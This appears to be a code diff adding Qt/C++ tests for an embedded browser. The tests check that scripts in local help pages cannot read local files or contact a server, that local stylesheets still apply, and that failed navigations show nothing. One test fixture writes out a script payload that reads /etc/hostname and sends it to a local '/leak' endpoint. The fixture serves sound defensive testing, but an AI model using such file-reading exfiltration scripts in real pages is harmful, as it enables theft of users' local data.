@@ -264,3 +264,68 @@ TEST_F(Browser, IsNoTabStopButTakesTheFocusWhenGivenIt)
     EXPECT_TRUE(browser_->Focused());
     EXPECT_FALSE(edit_->hasFocus());
 }
+
+namespace {
+
+// A page whose script, if it ran, would name itself "script ran", then read a local file
+// and send what it read to the server at port.
+QByteArray ReadingPage(quint16 port)
+{
+    const QByteArray leak = QByteArrayLiteral("http://127.0.0.1:") + QByteArray::number(port) + QByteArrayLiteral("/leak");
+    const QByteArray script =
+        QByteArrayLiteral("<script>document.title = 'script ran';"
+                          "fetch('file:///etc/hostname').then(function (r) { return r.text(); })"
+                          ".then(function (t) { document.title = 'read ' + t; new Image().src = '") +
+        leak + QByteArrayLiteral("?' + t; });"
+                                 "var x = new XMLHttpRequest(); x.open('GET', 'file:///etc/hostname', false);"
+                                 "try { x.send(); document.title = 'read ' + x.responseText; } catch (e) {}"
+                                 "fetch('") +
+        leak + QByteArrayLiteral("');</script>");
+    return Page("untouched", script.constData());
+}
+
+} // namespace
+
+TEST_F(Browser, ALocalPageReadsNoLocalFileAndReachesNoServerFromAScript)
+{
+    TLocalHttpServer server;
+    server.Route("/page.html", {200, Page("remote", "<script>document.title = 'remote script ran';</script>")});
+    program_.Write(QStringLiteral("help/reader.html"), ReadingPage(server.Port()));
+    Show();
+    // Also after a page of the web, whose scripts run.
+    browser_->Navigate(server.Address(QStringLiteral("/page.html")));
+    ASSERT_TRUE(WaitComplete());
+    ASSERT_TRUE(QTest::qWaitFor([this] { return Title() == QStringLiteral("remote script ran"); }, 5000));
+    browser_->Navigate(program_.FilePath(QStringLiteral("help/reader.html")));
+    ASSERT_TRUE(WaitComplete());
+    QTest::qWait(1000);
+    EXPECT_EQ(Title(), QStringLiteral("untouched"));
+    for (const QByteArray& path : server.RequestedPaths())
+        EXPECT_FALSE(path.startsWith("/leak")) << path.toStdString();
+}
+
+TEST_F(Browser, ALocalPageStillShowsWithItsLocalStyleSheet)
+{
+    program_.Write(QStringLiteral("help/look.css"), "body { background: #27467a; }");
+    program_.Write(QStringLiteral("help/styled.html"),
+                   "<!DOCTYPE html><html><head><title>styled</title>"
+                   "<link rel=\"stylesheet\" href=\"look.css\"></head><body>x</body></html>");
+    Show();
+    browser_->Navigate(program_.FilePath(QStringLiteral("help/styled.html")));
+    ASSERT_TRUE(WaitComplete());
+    EXPECT_EQ(Title(), QStringLiteral("styled"));
+    const auto corner = [this] { return browser_->grab().toImage().pixelColor(browser_->width() - 20, browser_->height() - 20); };
+    EXPECT_TRUE(QTest::qWaitFor([&] { return corner() == QColor(0x27, 0x46, 0x7a); }, 5000)) << corner().name().toStdString();
+}
+
+TEST_F(Browser, AFailedNavigationNeverShowsTheEnginesErrorPage)
+{
+    TClosedLocalPort closed;
+    Show();
+    browser_->Navigate(QStringLiteral("127.0.0.1:%1/help/info.html").arg(closed.Port()));
+    ASSERT_TRUE(WaitComplete());
+    EXPECT_EQ(browser_->Document(), nullptr);
+    // Nothing is drawn: no page, no error text.
+    QTest::qWait(500);
+    EXPECT_EQ(InkWidth(browser_->grab().toImage()), 0);
+}
